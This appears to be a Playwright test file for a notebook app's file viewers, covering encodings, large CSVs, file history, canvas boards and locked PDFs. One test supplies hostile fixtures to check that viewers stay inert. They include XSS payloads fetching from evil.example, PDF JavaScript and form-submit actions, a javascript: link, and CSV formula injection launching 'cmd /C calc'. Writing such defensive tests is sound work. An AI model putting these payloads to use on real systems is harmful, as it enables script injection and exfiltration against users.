import { readFileSync } from 'node:fs';
import type { Page } from '@playwright/test';
import { makePdf } from '../support/views/make-pdf.ts';
import { openConsole } from './console.ts';
import { findViolations } from './find-violations.ts';
import { expect, test } from './installed-app.ts';

test.use({ sharesApp: true });

const encode = (text: string) => new TextEncoder().encode(text);

async function openFiles(page: Page, rootUrl: string, files: Record<string, Uint8Array>): Promise<string> {
  await openConsole(page, rootUrl);
  const entries = Object.entries(files).map(([path, bytes]) => [path, [...bytes]] as const);
  return page.evaluate(async (given) => {
    const { notebookId } = await cloister.notebooks.create({ name: 'Views' });
    for (const [path, bytes] of given) await cloister.files.write(notebookId, path, new Uint8Array(bytes));
    return notebookId;
  }, entries);
}

async function go(page: Page, notebookId: string, path: string): Promise<void> {
  await page.evaluate((hash) => {
    location.hash = hash;
  }, `#/notebook/${notebookId}/file${path}`);
  await expect(page.getByRole('article', { name: path })).toBeVisible();
}

/** Encodes a text in UTF-16 with a byte order mark. */
function utf16(text: string): Uint8Array {
  const view = new DataView(new ArrayBuffer(text.length * 2 + 2));
  for (const [at, unit] of [0xfeff, ...Array.from(text, (letter) => letter.charCodeAt(0))].entries())
    view.setUint16(at * 2, unit, true);
  return new Uint8Array(view.buffer);
}

test('shows text in its detected encoding, converts it to UTF-8, and undoes the conversion', async ({
  page,
  rootUrl,
}) => {
  const bytes = utf16('sample;mass\nB-114;2,51 µg\n');
  const notebookId = await openFiles(page, rootUrl, { '/old.csv': bytes });
  await go(page, notebookId, '/old.csv');
  await expect(
    page.getByText('The encoding of this file is UTF-16 (little endian). The file is not changed.'),
  ).toBeVisible();
  await expect(page.getByRole('cell', { name: '2,51 µg' })).toBeVisible();
  expect(await findViolations(page)).toEqual([]);
  const stored = () => page.evaluate(async (id) => [...(await cloister.files.readBytes(id, '/old.csv'))], notebookId);
  expect(await stored()).toEqual([...bytes]);
  await page.getByRole('button', { name: 'Convert to UTF-8' }).click();
  await expect(page.getByText('/old.csv is now UTF-8.')).toBeVisible();
  expect(await stored()).toEqual([...encode('sample;mass\nB-114;2,51 µg\n')]);
  await page.getByRole('button', { name: 'Undo', exact: true }).click();
  await expect(page.getByText('This file is UTF-16 (little endian).')).toBeVisible();
  expect(await stored()).toEqual([...bytes]);
});

test('shows a CSV file of 20 MB as a table', async ({ page, rootUrl }) => {
  await openConsole(page, rootUrl);
  const notebookId = await page.evaluate(async () => {
    const made = await cloister.notebooks.create({ name: 'Large' });
    const rows = Array.from(
      { length: 400_000 },
      (_, n) => `${n};B-${n % 999};${(n / 7).toFixed(9)};a remark of some length`,
    );
    await cloister.files.write(made.notebookId, '/large.csv', `id;sample;mass;note\n${rows.join('\n')}\n`);
    return made.notebookId;
  });
  await go(page, notebookId, '/large.csv');
  await expect(page.getByText('400,000 rows, 4 columns')).toBeVisible();
  const area = page.getByRole('region', { name: 'Table /large.csv' });
  await area.focus();
  await page.keyboard.press('End');
  await expect(page.getByRole('cell', { name: '399999', exact: true })).toBeVisible();
});

test('file history shows authors and differences, and restores a version', async ({ page, rootUrl }) => {
  const notebookId = await openFiles(page, rootUrl, { '/note.md': encode('first line\nsecond line\n') });
  await page.evaluate(async (id) => {
    await cloister.files.write(id, '/note.md', 'first line\nanother line\n');
    await cloister.files.move(id, '/note.md', '/kept.md');
  }, notebookId);
  await go(page, notebookId, '/kept.md');
  await page.getByRole('heading', { name: 'File history' }).click();
  const list = page.getByRole('list', { name: 'Versions, newest first' });
  await expect(list.getByRole('listitem')).toContainText([
    /You moved the file from \/note\.md to \/kept\.md.*Current/,
    /You changed the file/,
    /You created the file/,
  ]);
  await expect(page.getByText('Last modified by')).toBeVisible();
  const created = list.getByRole('listitem').last();
  await created.getByRole('button', { name: /^Show/ }).click();
  await created.getByRole('radio', { name: 'Current version' }).check();
  await expect(created.getByText('another line')).toBeVisible();
  await expect(created.getByText('second line')).toBeVisible();
  expect(await findViolations(page)).toEqual([]);
  await created.getByRole('button', { name: /^Restore…/ }).click();
  const question = created.getByRole('group', { name: /^Restore…/ });
  await expect(question.getByText('another line')).toBeVisible();
  expect(await page.evaluate((id) => cloister.files.read(id, '/kept.md'), notebookId)).toContain('another line');
  await question.getByRole('button', { name: 'Restore this version' }).click();
  await expect(page.getByText(/^\/kept\.md was restored to the version of/)).toBeVisible();
  expect(await page.evaluate((id) => cloister.files.read(id, '/kept.md'), notebookId)).toBe(
    'first line\nsecond line\n',
  );
  await expect(list.getByRole('listitem').first()).toContainText('You restored the version of');
});

test('viewers run no code, send no requests, and do not navigate', async ({ page, rootUrl, context }) => {
  const script = "document.title='ran';fetch('https://evil.example/x');alert(1)";
  const html = `<img src=https://evil.example/i onerror="${script}"><script>${script}</script><svg onload="${script}">`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" width="90" height="60" onload="${script}">
    <rect width="40" height="40" fill="red"/><script>${script}</script><image x:href="https://evil.example/p.png" width="9" height="9"/>
    <foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/f"/></foreignObject></svg>`;
  const uri = '<</Type/Annot/Subtype/Link/Rect[40 500 200 540]/A<</S/URI/URI(https://evil.example/link)>>>>';
  const js = '/S/JavaScript/JS(app.launchURL\\("https://evil.example/js"\\);app.alert\\(1\\))';
  const submit = `<</Type/Annot/Subtype/Widget/FT/Btn/T(b)/Rect[40 400 200 440]/A<</S/SubmitForm/F(https://evil.example/form)>>/AA<</PO<<${js}>>>>>>`;
  const launch = '<</Type/Annot/Subtype/Link/Rect[40 300 200 340]/A<</S/GoToR/F(https://evil.example/r.pdf)>>>>';
  const catalog = `/OpenAction<<${js}>>/AA<</WC<<${js}>>>>/Names<</JavaScript<</Names[(a)<<${js}>>]>>>>`;
  const files = {
    '/a.svg': encode(svg),
    '/b.csv': encode(
      `name,value\n"${html.replaceAll('"', '""')}","=HYPERLINK(""https://evil.example/c"")"\n@SUM(1),+cmd|' /C calc'!A0\n`,
    ),
    '/c.json': encode(JSON.stringify({ [html]: html, __proto__x: { constructor: html } })),
    '/d.pdf': makePdf([{ lines: ['A page with actions'], annotations: [uri, submit, launch] }], catalog),
    '/e.html.bin': encode(html),
    '/f.txt': utf16(html),
    '/g.canvas': encode(
      JSON.stringify({
        nodes: [
          { id: 't', type: 'text', text: `Card ${html}`, x: 0, y: 0, width: 300, height: 100 },
          { id: 'l', type: 'link', url: `javascript:${script}`, x: 0, y: 200, width: 300, height: 60 },
          { id: 'o', type: 'link', url: 'https://evil.example/o', x: 0, y: 300, width: 300, height: 60 },
          { id: 'f', type: 'file', file: '../../https://evil.example/f.png', x: 0, y: 400, width: 300, height: 60 },
          { id: 'g', type: 'group', label: html, x: 0, y: 500, width: 300, height: 60, color: 'url(//evil.example/c)' },
        ],
        edges: [{ id: 'e', fromNode: 't', toNode: 'l', label: html, color: 'url(//evil.example/e)' }],
      }),
    ),
  };
  const notebookId = await openFiles(page, rootUrl, files);
  const outside: string[] = [];
  const dialogs: string[] = [];
  const refused: string[] = [];
  context.on('request', (request) => {
    if (!request.url().startsWith(rootUrl) && !/^(?:blob|data):/.test(request.url())) outside.push(request.url());
  });
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('framenavigated', (frame) => {
    if (!frame.url().startsWith(rootUrl)) outside.push(frame.url());
  });
  context.on('page', (opened) => outside.push(opened.url()));
  await page.exposeFunction('noteRefusal', (text: string) => refused.push(text));
  await page.evaluate(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      Reflect.get(globalThis, 'noteRefusal')(`${event.effectiveDirective} ${event.blockedURI}`);
    });
  });

  await go(page, notebookId, '/a.svg');
  await expect(page.getByText('90 × 60 pixels')).toBeVisible();
  await go(page, notebookId, '/b.csv');
  await expect(page.getByRole('cell', { name: '=HYPERLINK("https://evil.example/c")' })).toBeVisible();
  await go(page, notebookId, '/c.json');
  await expect(page.getByRole('treeitem', { name: /onerror/ })).toBeVisible();
  await go(page, notebookId, '/d.pdf');
  await expect(page.getByText('A page with actions')).toBeAttached();
  await expect(page.getByRole('link', { name: 'Link to https://evil.example/link' })).toBeAttached();
  await go(page, notebookId, '/e.html.bin');
  await go(page, notebookId, '/g.canvas');
  await expect(page.getByText('This address is not opened.')).toBeAttached();
  await expect(page.getByRole('list', { name: 'Cards, by row' }).getByText('Card')).toBeVisible();
  await go(page, notebookId, '/f.txt');
  await expect(page.getByText('<script>', { exact: false }).first()).toBeVisible();
  await go(page, notebookId, '/a.svg');
  await expect(page.getByText('90 × 60 pixels')).toBeVisible();

  expect({ outside, dialogs, refused }).toEqual({ outside: [], dialogs: [], refused: [] });
  expect(await page.title()).not.toBe('ran');
  expect(await page.locator('article iframe, article object, article script, article svg[onload]').count()).toBe(0);

  // Proves that the detectors work.
  await page.evaluate(() => {
    new Image().src = 'https://evil.example/control';
  });
  await expect.poll(() => refused.length).toBeGreaterThan(0);
  await go(page, notebookId, '/d.pdf');
  await expect(page.getByText('A page with actions')).toBeAttached();
  expect(await findViolations(page)).toEqual([]);
});

test('a board shows its cards where they are, their connections in words, and says what is damaged', async ({
  page,
  rootUrl,
}) => {
  const card = (id: string, x: number, y: number, more: object) => ({ id, x, y, width: 260, height: 120, ...more });
  const board = {
    nodes: [
      card('a', 0, 0, { type: 'text', text: '**Question**\n\nDoes blue light help?', color: '4' }),
      card('b', 400, 0, { type: 'file', file: 'lab/plan.md' }),
      card('c', 400, 300, { type: 'link', url: 'https://example.org/light', color: '#3366cc' }),
      card('w', -40, -60, { type: 'group', label: 'Week 1', width: 760, height: 220 }),
      card('x', 0, 0, { type: 'portal' }),
    ],
    edges: [
      { id: '1', fromNode: 'a', fromSide: 'right', toNode: 'b', toSide: 'left', label: 'tested by' },
      { id: '2', fromNode: 'a', toNode: 'c' },
    ],
  };
  const notebookId = await openFiles(page, rootUrl, {
    '/lab/plan.md': encode('# The plan\n\nFour levels of blue.\n'),
    '/board.canvas': encode(JSON.stringify(board)),
    '/broken.canvas': encode('{"nodes": ['),
  });
  await go(page, notebookId, '/board.canvas');
  await expect(page.getByText('4 cards, 2 connections 1 part is not shown:')).toBeVisible();
  const cards = page.getByRole('list', { name: 'Cards, by row' }).getByRole('listitem');
  await expect(cards).toContainText([
    /Week 1/,
    /Question.*Leads to plan \(tested by\), https:/s,
    /Four levels/,
    /light/,
  ]);
  const place = async (at: number) => (await cards.nth(at).boundingBox()) ?? { x: 0, y: 0, width: 0 };
  const [text, file, link] = [await place(1), await place(2), await place(3)];
  const zoom = text.width / 260;
  expect((file.x - text.x) / zoom).toBeCloseTo(400, 0);
  expect((link.y - text.y) / zoom).toBeCloseTo(300, 0);
  await page.getByRole('button', { name: 'Zoom out' }).press('Enter');
  await expect.poll(async () => (await place(1)).width).toBeLessThan(text.width);
  expect(await findViolations(page, { inDark: true })).toEqual([]);
  await cards.getByRole('link', { name: 'plan' }).first().click();
  await expect(page.getByRole('article', { name: '/lab/plan.md' })).toBeVisible();
  await go(page, notebookId, '/broken.canvas');
  const broken = page.getByRole('article', { name: '/broken.canvas' });
  await expect(broken.getByRole('alert')).toContainText('This board cannot be shown:');
});

test('a protected PDF asks for its password and is drawn without external requests', async ({ page, rootUrl }) => {
  const locked = new Uint8Array(readFileSync(new URL('../fixtures/pdf/locked.pdf', import.meta.url)));
  const notebookId = await openFiles(page, rootUrl, { '/locked.pdf': locked });
  await go(page, notebookId, '/locked.pdf');
  await page.getByLabel('Password').fill('cloister');
  await page.keyboard.press('Enter');
  await expect(page.getByText('Behind the door')).toBeAttached();
  await expect(page.getByRole('region', { name: 'Page 1', exact: true }).locator('canvas')).toBeVisible();
});
